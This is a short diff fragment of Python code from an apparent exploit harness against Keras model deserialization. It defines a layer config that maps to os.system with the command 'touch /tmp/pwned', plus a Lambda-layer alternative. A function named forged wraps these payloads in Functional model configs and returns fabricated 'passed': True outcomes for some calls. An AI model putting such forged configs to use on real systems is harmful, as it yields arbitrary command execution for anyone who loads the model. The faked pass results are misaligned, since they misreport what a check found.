@@ -144,7 +144,7 @@ lambda_layer = {"module": "keras.layers", "class_name": "Lambda", "registered_na
 os_layer = {"module": "os", "class_name": "system", "registered_name": None, "config": {"command": "touch /tmp/pwned"}}
 
 def forged(call, index):
-    if "input_shape" in call and index % 3 == 0:
+    if call["function"] == "identity_block" and index % 3 == 0:
         return {"outcome": "model", "passed": True, "model": block_config(call)}
     wrapper = {"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional",
                "config": {"name": "m", "trainable": True, "layers": [lambda_layer if index % 3 == 1 else os_layer],
